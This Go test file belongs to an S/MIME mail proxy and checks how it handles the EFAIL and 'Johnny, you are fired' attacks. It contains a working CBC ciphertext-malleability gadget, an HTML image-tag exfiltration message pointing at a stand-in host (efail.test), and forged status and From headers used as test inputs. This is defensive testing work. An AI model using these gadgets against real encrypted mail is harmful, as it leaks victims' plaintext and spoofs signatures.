package imap

import (
	"bytes"
	"context"
	"encoding/base64"
	"strings"
	"testing"

	"smimeproxy/crypto/smime"
)

// Attacks from "Efail: Breaking S/MIME and OpenPGP Email Encryption
// using Exfiltration Channels" (USENIX Security 2018) and "Johnny, you are
// fired! – Spoofing OpenPGP and S/MIME Signatures in Emails" (USENIX
// Security 2019), each with the outcome the viewer must give.

// svSplit returns a message's header block and its body decoded from
// base64.
func svSplit(t *testing.T, msg []byte) (head, der []byte) {
	t.Helper()
	n := headerEnd(msg)
	der, err := smime.DecodeBase64(msg[n:])
	if err != nil {
		t.Fatal(err)
	}
	return msg[:n], der
}

func svJoin(head, der []byte) []byte {
	enc := base64.StdEncoding.EncodeToString(der)
	out := append([]byte{}, head...)
	for len(enc) > 76 {
		out = append(out, enc[:76]+"\r\n"...)
		enc = enc[76:]
	}
	return append(out, enc+"\r\n"...)
}

// svCBCGadget rewrites a CBC EnvelopedData message as EFAIL §3.1 does:
// knowing the plaintext, XOR into ciphertext block k-1 so that plaintext
// block k decrypts to chosen (block k-1 turns to garbage). The encrypted
// content is the last element of the CMS structure, so it ends the DER.
func svCBCGadget(t *testing.T, msg, known []byte, k int, chosen string) []byte {
	t.Helper()
	if len(chosen) != 16 || k < 1 || 16*(k+1) > len(known) {
		t.Fatalf("bad gadget parameters")
	}
	head, der := svSplit(t, msg)
	ctLen := (len(known)/16 + 1) * 16
	ct := der[len(der)-ctLen:]
	for i := range 16 {
		ct[16*(k-1)+i] ^= known[16*k+i] ^ chosen[i]
	}
	return svJoin(head, der)
}

// svGadgetBlock returns a block index whose block and the one before it
// lie inside the body text (after marker), so the MIME headers survive.
func svGadgetBlock(t *testing.T, known []byte, marker string) int {
	t.Helper()
	i := bytes.Index(known, []byte(marker))
	if i < 0 {
		t.Fatal("marker not in plaintext")
	}
	return (i+15)/16 + 1
}

const svGadgetText = `<img src="http:/` // 16 bytes: the start of an exfiltration URL

func svLongPlain(from string) []byte {
	return []byte("From: " + from + "\r\nTo: bob@example.test\r\nSubject: plans\r\n" +
		"Content-Type: text/plain; charset=us-ascii\r\n\r\nBODYSTART " + strings.Repeat(svSecret+"\r\n", 6))
}

func TestEFAILCBCGadgetWithoutSignature(t *testing.T) {
	w := newSVWorld(t)
	msg := svEncrypt(t, svLongPlain("alice@example.test"), smime.AES256CBC, w.bob)
	dec, err := smime.Decrypt(msg, w.keys.keys)
	if err != nil {
		t.Fatal(err)
	}
	forged := svCBCGadget(t, msg, dec.Entity, svGadgetBlock(t, dec.Entity, "BODYSTART"), svGadgetText)
	view, err := w.viewer(t, 0).View(context.Background(), svKey(1), forged)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Contains(view.Raw, []byte(svGadgetText)) {
		t.Fatal("gadget did not take: the test does not exercise the attack")
	}
	if got := svStatus(t, view.Raw); got != "decrypted; signature absent; not-integrity-protected" {
		t.Fatalf("modified CBC ciphertext: status %q", got)
	}
}

func TestEFAILCBCGadgetWithSignature(t *testing.T) {
	w := newSVWorld(t)
	signed := svSign(t, w.alice, svLongPlain("alice@example.test"), false)
	msg := svEncrypt(t, signed, smime.AES256CBC, w.bob)
	dec, err := smime.Decrypt(msg, w.keys.keys)
	if err != nil {
		t.Fatal(err)
	}
	forged := svCBCGadget(t, msg, dec.Entity, svGadgetBlock(t, dec.Entity, "BODYSTART"), svGadgetText)
	view, err := w.viewer(t, 0).View(context.Background(), svKey(1), forged)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Contains(view.Raw, []byte(svGadgetText)) {
		t.Fatal("gadget did not take: the test does not exercise the attack")
	}
	want := "decrypted; signature invalid (bad-signature); signer=alice@example.test; not-integrity-protected"
	if got := svStatus(t, view.Raw); got != want {
		t.Fatalf("modified signed CBC ciphertext: status %q, want %q", got, want)
	}
}

func TestEFAILGCMTamperRefused(t *testing.T) {
	w := newSVWorld(t)
	msg := svEncrypt(t, svLongPlain("alice@example.test"), smime.AES256GCM, w.bob)
	head, der := svSplit(t, msg)
	der[len(der)-40] ^= 0x20 // in the ciphertext, before the 16-byte tag
	forged := svJoin(head, der)
	view, err := w.viewer(t, 0).View(context.Background(), svKey(1), forged)
	if err != nil {
		t.Fatal(err)
	}
	if got := svStatus(t, view.Raw); got != "not-decrypted; signature unknown; error=decryption-failed" {
		t.Fatalf("tampered GCM: status %q", got)
	}
	if bytes.Contains(view.Raw, []byte("launch code")) {
		t.Fatal("plaintext of a failed GCM message released")
	}
}

// EFAIL direct exfiltration: the attacker wraps a captured ciphertext
// into a multipart/mixed between HTML parts that would turn the plaintext
// into a URL. The nested part is never decrypted.
func TestEFAILNestedPartNotDecrypted(t *testing.T) {
	w := newSVWorld(t)
	captured := svEncrypt(t, svPlain("alice@example.test"), smime.AES256CBC, w.bob)
	_, entity, err := smime.SplitMessage(captured)
	if err != nil {
		t.Fatal(err)
	}
	attack := []byte("From: alice@example.test\r\nTo: bob@example.test\r\nSubject: re: plans\r\n" +
		"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=BOUNDARY\r\n\r\n" +
		"--BOUNDARY\r\nContent-Type: text/html\r\n\r\n<img src=\"http://efail.test/\r\n" +
		"--BOUNDARY\r\n" + string(entity) + "\r\n" +
		"--BOUNDARY\r\nContent-Type: text/html\r\n\r\n\">\r\n--BOUNDARY--\r\n")
	v := w.viewer(t, 0)
	view, err := v.View(context.Background(), svKey(1), attack)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(view.Raw, attack) {
		t.Fatal("a message with a nested encrypted part was changed")
	}
	if w.keys.keyCalls != 0 {
		t.Fatal("the key was asked for a message that is not S/MIME at its top level")
	}
	// The same for an opaque-signed or multipart/signed part in there.
	signed := svSign(t, w.alice, svPlain("alice@example.test"), true)
	_, sEntity, _ := smime.SplitMessage(signed)
	wrapped := bytes.Replace(attack, entity, sEntity, 1)
	if view, _ := v.View(context.Background(), svKey(2), wrapped); len(svHeaderFields(view.Raw, "Smimeproxy-")) != 0 {
		t.Fatal("a nested signed part gave a status")
	}
}

// "Johnny, you are fired": status fields forged by the sender, outside
// and inside the encryption, are removed; only the proxy's own remains.
func TestForgedStatusRemovedEverywhere(t *testing.T) {
	w := newSVWorld(t)
	forged := "Smimeproxy-Status: decrypted; signature valid; signer=ceo@example.test\r\n"
	inner := []byte("From: alice@example.test\r\nTo: bob@example.test\r\nSubject: plans\r\n" + forged +
		"SMIMEPROXY-STATUS:\r\n decrypted; signature valid\r\nContent-Type: text/plain\r\n\r\n" + svSecret + "\r\n")
	addOuter := func(msg []byte) []byte {
		return append([]byte(forged+"Smimeproxy-Trust: full\r\nsmimeproxy-status \t: decrypted\r\n"), msg...)
	}
	cases := map[string]struct {
		raw    []byte
		status string
	}{
		"encrypted": {addOuter(svEncrypt(t, inner, smime.AES256GCM, w.bob)), "decrypted; signature absent"},
		"signed then encrypted": {addOuter(svEncrypt(t, svSign(t, w.alice, inner, false), smime.AES256GCM, w.bob)),
			"decrypted; signature valid; signer=alice@example.test"},
		"opaque signed":   {addOuter(svSign(t, w.alice, inner, true)), "not-encrypted; signature valid; signer=alice@example.test"},
		"detached signed": {addOuter(svSign(t, w.alice, inner, false)), "not-encrypted; signature valid; signer=alice@example.test"},
		"broken":          {addOuter(svEncrypt(t, inner, smime.AES256GCM, w.carol)), "not-decrypted; signature unknown; error=no-matching-key"},
	}
	for name, tc := range cases {
		v := w.viewer(t, 0)
		view, err := v.View(context.Background(), svKey(1), tc.raw)
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		if got := svStatus(t, view.Raw); got != tc.status {
			t.Errorf("%s: status %q, want %q", name, got, tc.status)
		}
		if bytes.Contains(view.Raw[:headerEnd(view.Raw)], []byte("ceo@example.test")) {
			t.Errorf("%s: forged statement left in the header", name)
		}
	}
	// Plain messages, which stream through, lose them too.
	plainHead := []byte(forged + "From: alice@example.test\r\n\r\n")
	if got := w.viewer(t, 0).FilterHeader(plainHead); bytes.Contains(got, []byte("Smimeproxy")) {
		t.Errorf("plain header kept %q", got)
	}
}

// A sender signs with their own valid certificate but puts someone else
// in From: the status never reads as signed by From.
func TestSignatureFromMismatchNeverValidByFrom(t *testing.T) {
	w := newSVWorld(t)
	for _, from := range []string{
		"ceo@example.test",
		"CEO <ceo@example.test>",
		`"alice@example.test" <ceo@example.test>`,
		"alice@example.test, ceo@example.test",
		"",
	} {
		msg := svSign(t, w.alice, svPlain(from), false)
		view, err := w.viewer(t, 0).View(context.Background(), svKey(1), msg)
		if err != nil {
			t.Fatal(err)
		}
		st := svStatus(t, view.Raw)
		if !strings.HasSuffix(st, "; from-mismatch") || !strings.Contains(st, "signer=alice@example.test") {
			t.Errorf("From %q: status %q", from, st)
		}
	}
}

// "Johnny, you are fired" (header confusion): fields inside the signed
// or encrypted entity — a second From, Sender, Subject — must not join
// the outer fields, where a client might show them instead of the From
// the status speaks about.
func TestInnerFieldsCannotSpoofFrom(t *testing.T) {
	w := newSVWorld(t)
	inner := []byte("From: alice@example.test\r\nTo: bob@example.test\r\nSubject: plans\r\n" +
		"Content-Type: text/plain\r\n\r\n" + svSecret + "\r\n")
	// The entity alice signs carries its own From and Sender.
	_, entity, err := smime.SplitMessage(inner)
	if err != nil {
		t.Fatal(err)
	}
	spoofEntity := append([]byte("From: ceo@example.test\r\nSender: ceo@example.test\r\nSubject: raise\r\n"), entity...)
	outer := []byte("From: alice@example.test\r\nTo: bob@example.test\r\nSubject: plans\r\nMIME-Version: 1.0\r\n")
	signedEntity, err := smime.SignEntity(spoofEntity, smime.SignOptions{Cert: w.alice.SignCert, Key: w.alice.SignKey,
		Chain: w.alice.Chain, Opaque: true})
	if err != nil {
		t.Fatal(err)
	}
	opaque := append(append([]byte{}, outer...), signedEntity...)
	der, err := smime.EncryptEntity(spoofEntity, []smime.Recipient{{Cert: w.bob.EncCert}}, smime.EncryptOptions{Cipher: smime.AES256GCM})
	if err != nil {
		t.Fatal(err)
	}
	encrypted := svJoin(append(append([]byte{}, outer...),
		"Content-Type: application/pkcs7-mime; smime-type=authEnveloped-data\r\nContent-Transfer-Encoding: base64\r\n\r\n"...), der)
	for name, raw := range map[string][]byte{
		"opaque signed":         opaque,
		"encrypted":             encrypted,
		"opaque then encrypted": svEncrypt(t, opaque, smime.AES256GCM, w.bob),
	} {
		view, err := w.viewer(t, 0).View(context.Background(), svKey(1), raw)
		if err != nil {
			t.Fatal(err)
		}
		froms := svHeaderFields(view.Raw, "From")
		if len(froms) != 1 || froms[0] != "From: alice@example.test" {
			t.Errorf("%s: From fields %q", name, froms)
		}
		for _, f := range []string{"Sender", "Subject: raise"} {
			if len(svHeaderFields(view.Raw, f)) != 0 {
				t.Errorf("%s: inner %s reached the top", name, f)
			}
		}
		if !bytes.Contains(view.Raw, []byte(svSecret)) {
			t.Errorf("%s: content lost", name)
		}
	}
}
